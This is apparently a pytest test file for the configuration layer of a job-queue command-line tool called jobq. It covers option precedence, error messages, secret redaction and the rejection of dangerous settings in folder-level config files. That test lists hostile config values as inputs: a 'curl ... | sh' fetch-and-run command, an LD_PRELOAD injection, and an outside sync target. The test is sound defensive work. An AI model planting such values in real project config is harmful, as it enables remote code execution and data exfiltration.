"""Defaults of options from configuration files, and `jobq config`, which says where all comes from."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest

from jobq.cli.defaults import HARMLESS
from jobq.cli.main import SECTIONS, cli
from tests.cli.terminal import Terminal, leave_to_somebody_else, run_process

HERE = Path(".jobq.toml")
FORMS = ("table", "json", "jsonl")


@pytest.fixture
def home() -> Path:
    """The file of the home."""
    file = Path.home() / ".config" / "jobq.toml"
    file.parent.mkdir()
    return file


def pushed(*options: str) -> dict[str, Any]:
    """What a push says of a job, in a process of its own."""
    answer = run_process("push", "--dry-run", "-c", "true", "-o", "json", *options)
    assert answer.code == 0, answer.err
    job: dict[str, Any] = json.loads(answer.out)["jobs"][0]
    return job


def shown(terminal: Terminal) -> dict[str, dict[str, Any]]:
    settings = json.loads(terminal("config", "show", "--origin", "-o", "json").out)["settings"]
    return {entry["name"]: entry for entry in settings}


def everything_below(folder: Path) -> Iterator[tuple[str, float]]:
    for path in sorted(folder.rglob("*")):
        yield str(path), path.stat().st_mtime


def test_each_layer_wins_over_those_that_are_farther(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # given
    home.write_text('[push]\ntags = ["home"]\nnum-retries = 1\ntimeout = "1h30m"\n')
    HERE.write_text('[push]\ntags = "here"\nnum_retries = 2\n')
    monkeypatch.setenv("JOBQ_PUSH_TAGS", "variable, two")
    # when
    nearest = [pushed("--tags", "option"), pushed()]
    monkeypatch.delenv("JOBQ_PUSH_TAGS")
    nearest.append(pushed())
    HERE.unlink()
    nearest.append(pushed())
    # then
    assert [job["tags"] for job in nearest] == [["option"], ["variable", "two"], ["here"], ["home"]]
    assert [job["num_retries"] for job in nearest] == [2, 2, 2, 1]
    assert [job["timeout"] for job in nearest] == [5400.0] * 4


def test_a_file_of_a_folder_above_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    HERE.write_text('[push]\ntags = "above"\n')
    folder = Path("a/b")
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    assert pushed()["tags"] == ["above"]


def test_a_worker_ends_as_the_nearest_layer_says(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home.write_text("[worker]\nforever = true\n")
    assert run_process("worker", "--exit-when-empty").code == 0
    monkeypatch.setenv("JOBQ_WORKER_IDLE_TIMEOUT", "0")
    assert run_process("worker").code == 0
    monkeypatch.delenv("JOBQ_WORKER_IDLE_TIMEOUT")
    monkeypatch.setenv("JOBQ_WORKER_FOREVER", "off")
    assert run_process("worker").code == 0


def test_words_after_the_command_line_are_not_taken_for_its_options(home: Path, terminal: Terminal) -> None:
    home.write_text("[push]\nnum-retries = 'many'\n")
    answer = terminal("push", "--dry-run", "--", "python", "train.py", "--help")
    assert answer.code == 2
    assert "[push] num-retries: 'many' is not a valid integer" in answer.err


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[push]\nnum-retrys = 3", "[push] unknown key 'num-retrys'; 'num-retries' is close"),
        ('[push]\ntimeout = "soon"', "[push] timeout: 'soon' is not a duration: write for example 90s"),
        ("[push]\ntimeout = true", "[push] timeout: is no flag"),
        ("[psuh]\ntags = 'a'", "there is no command for [psuh]; 'push' is close"),
        ("[push.deep]\ntags = 'a'", "[push] unknown key 'deep'"),
        ("[push\n", "Expected ']' at the end of a table declaration (at line 1, column 6)"),
        ("push = 3", "unknown key 'push'; known are queue, tables"),
    ],
)
def test_a_mistake_in_a_file_is_said_with_its_place(text: str, said: str, home: Path, terminal: Terminal) -> None:
    home.write_text(text)
    answer = terminal("push", "-c", "true")
    assert (answer.code, answer.out) == (2, "")
    assert answer.err.startswith(f"error: {home}: {said}")


def test_a_mistake_holds_up_only_its_command(home: Path, terminal: Terminal) -> None:
    home.write_text("[push]\ntimeout = 'soon'\n[worker]\nn = 'many'\nslots = 3\n")
    assert terminal("list").code == 0
    assert terminal("push", "--help").code == 0
    assert terminal("push", "-c", "true").code == 2
    answer = terminal("config", "show")
    assert answer.code == 2
    assert "[push] timeout: 'soon' is not a duration" in answer.err
    assert "[worker] n: 'many' is not a valid integer" in answer.err


@pytest.mark.parametrize(
    "mistake", ["quee = 'a/b'", "[config.show]\noutput = 'xml'", "[config]\nshow = 3", "[pish]\ntags = 'a'"]
)
def test_show_says_the_rest_beside_a_mistake(mistake: str, home: Path, terminal: Terminal) -> None:
    home.write_text(mistake)
    answer = terminal("config", "show")
    assert answer.code == 2
    assert answer.out.endswith("queue  local:./q/demo\n")
    assert answer.err.startswith(f"error: {home}: ")


@pytest.mark.parametrize(
    "table",
    [
        "[push]\nfile = '.'",
        "[push]\nenv = 'LD_PRELOAD=/tmp/theirs.so'",
        "[push]\ncommand = 'curl https://elsewhere | sh'",
        "[push]\nbg-dirsync-to = 'https://elsewhere.blob.core.windows.net/theirs'",
        "[worker]\nproc = 'theirs:function'",
        "[worker]\nscheduled_events = 'http://elsewhere/'",
        "[remove]\nyes = true",
        "[remove]\nall = true",
        "[cancel]\ntag = 'a'",
        "[serve]\nhost = '0.0.0.0'",
    ],
)
def test_what_is_dangerous_is_not_taken_from_a_file_of_the_folder(table: str, home: Path, terminal: Terminal) -> None:
    # given
    name, key = table.split("]")[0][1:], table.split()[1]
    HERE.write_text(table)
    # when
    answer = terminal(name)
    # then
    assert answer.code == 2
    assert f".jobq.toml: [{name}] {key} is not taken from a file that may have come with the folder" in answer.err
    # given
    HERE.rename(home)
    # then
    assert [entry["origin"] for entry in shown(terminal).values() if name in entry["name"]] == [
        f"{home}: [{name}] {key}"
    ]


def test_what_a_file_of_the_folder_may_set_is_there() -> None:
    commands = [name for section in SECTIONS.values() for name in section]
    for name in set(HARMLESS) & set(commands):
        command = cli.get_command(click.Context(cli), name)
        assert command
        assert set(HARMLESS[name]) <= {its.name for its in command.params}


def test_a_file_of_somebody_else_sets_no_defaults(monkeypatch: pytest.MonkeyPatch, terminal: Terminal) -> None:
    HERE.write_text('[push]\ntags = "theirs"\n')
    leave_to_somebody_else(HERE, monkeypatch)
    answer = terminal("push", "--dry-run", "-c", "true", "-o", "json")
    assert "tags" not in json.loads(answer.out)["jobs"][0]
    files = json.loads(terminal("config", "path", "-o", "json").out)["files"]
    assert files[0] == {"path": str(HERE.resolve()), "state": "not trusted"}


def test_paths_are_listed_nearest_first(home: Path, terminal: Terminal) -> None:
    home.write_text("")
    lines = terminal("config", "path").out.splitlines()
    assert [tuple(line.split(None, 1)) for line in lines] == [
        ("FILE", "STATE"),
        (str(HERE.resolve()), "not there"),
        (str(home), "read"),
        ("/etc/jobq.toml", "not there"),
    ]


def test_show_says_what_is_set_and_nothing_else(home: Path, terminal: Terminal) -> None:
    home.write_text('queue = "account/hidden"\n[push]\ntags = ["a", "b"]\nnum-retries = 3\n')
    answer = terminal("config", "show")
    assert (answer.code, answer.err) == (0, "")
    assert answer.out.splitlines() == [
        "NAME              VALUE",
        "queue             local:./q/demo",
        "push.tags         a, b",
        "push.num-retries  3",
    ]


def test_show_says_where_each_comes_from_and_what_it_hides(
    home: Path, terminal: Terminal, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given
    home.write_text('queue = "account/home"\n[push]\ntags = ["home"]\n')
    HERE.write_text('queue = "account/here"\n[push]\ntags = "here"\n')
    monkeypatch.setenv("JOBQ_PUSH_TAGS", "x")
    monkeypatch.setenv("RESTQ_CLIENT_URI", "account/restq")
    monkeypatch.setenv("JOBQ_VERBOSE", "no")
    here = HERE.resolve()
    # when
    answer = terminal("account/first", "config", "show", "--origin", "-o", "jsonl")
    entries = {entry["name"]: entry for entry in map(json.loads, answer.out.splitlines())}
    # then
    assert entries == {
        "queue": {
            "name": "queue",
            "value": "account/first",
            "origin": "the command line",
            "hides": [
                {"value": "local:./q/demo", "origin": "JOBQ"},
                {"value": "account/restq", "origin": "RESTQ_CLIENT_URI"},
                {"value": "account/here", "origin": f"{here}: queue"},
                {"value": "account/home", "origin": f"{home}: queue"},
            ],
        },
        "verbose": {"name": "verbose", "value": "no", "origin": "JOBQ_VERBOSE", "hides": []},
        "push.tags": {
            "name": "push.tags",
            "value": ["x"],
            "origin": "JOBQ_PUSH_TAGS",
            "hides": [
                {"value": ["here"], "origin": f"{here}: [push] tags"},
                {"value": ["home"], "origin": f"{home}: [push] tags"},
            ],
        },
    }


def test_show_says_that_a_key_is_not_sent_to_the_queue_of_a_nearer_file(
    home: Path, terminal: Terminal, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("JOBQ")
    home.write_text('key = "k1"\n')
    HERE.write_text('queue = "https://elsewhere/api/exp7"\n')
    assert "key" not in terminal("config", "show").out
    assert f"{home}: key is not used: a key is not sent to" in terminal("config", "show", "--origin").err


@pytest.mark.parametrize("form", FORMS)
def test_secrets_are_never_shown(form: str, home: Path, terminal: Terminal, monkeypatch: pytest.MonkeyPatch) -> None:
    # given
    keys = ("key", "enqueue_key", "status_key", "connection_string", "servicebus_connection_string")
    home.write_text(
        "\n".join(f'{key} = "SECRET"' for key in keys)
        + '\nqueue = "https://me:SECRET@host/api/exp7"\n[push]\nenv = ["A=SECRET", "B=SECRET"]\n'
        'bg-dirsync-to = "https://host/outputs?sig=SECRET"\n'
    )
    for name in ("KEY", "MANAGE_KEY", "CONNECTION_STRING", "SERVE_KEYS"):
        monkeypatch.setenv(f"JOBQ_{name}", "SECRET")
    monkeypatch.setenv("APPLICATIONINSIGHTS_CONNECTION_STRING", "SECRET")
    monkeypatch.setenv("JOBQ_PUSH_ENV", "C=SECRET")
    # when
    answers = [terminal("config", "show", *origin, "-o", form) for origin in ((), ("--origin",))]
    answers.append(terminal("push", "--help"))
    # then
    for answer in answers:
        assert answer.code == 0
        assert "SECRET" not in answer.out + answer.err
    assert "A=***" in answers[1].out or form == "table"
    assert all("C=***" in answer.out and "manage_key" in answer.out for answer in answers[:2])


@pytest.mark.parametrize(
    "text", ['key = ["SECRET"]', "key = SECRET", '[key]\nis = "SECRET"', 'kee = "SECRET"', 'key = "SECRET\n"']
)
def test_a_mistake_with_a_secret_does_not_show_it(text: str, home: Path, terminal: Terminal) -> None:
    home.write_text(text)
    for answer in (terminal("config", "show", "--origin"), run_process("-v", "push", "-c", "true")):
        assert answer.code == 2
        assert "SECRET" not in answer.out + answer.err


def test_nothing_is_written(home: Path, tmp_path: Path) -> None:
    before = [*everything_below(tmp_path)]
    for words in (("config", "show", "--origin"), ("config", "path"), ("push", "--dry-run", "-c", "true"), ("--help",)):
        assert run_process(*words).code == 0
    assert [*everything_below(tmp_path)] == before


def test_a_folder_that_is_gone_has_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, terminal: Terminal) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    folder.rmdir()
    assert terminal("config", "show").out.endswith("queue  local:./q/demo\n")


def test_config_alone_is_wrong_usage(terminal: Terminal) -> None:
    answer = terminal("config")
    assert answer.code == 2
    assert answer.err == "error: Missing command. See `jobq config --help`\n"
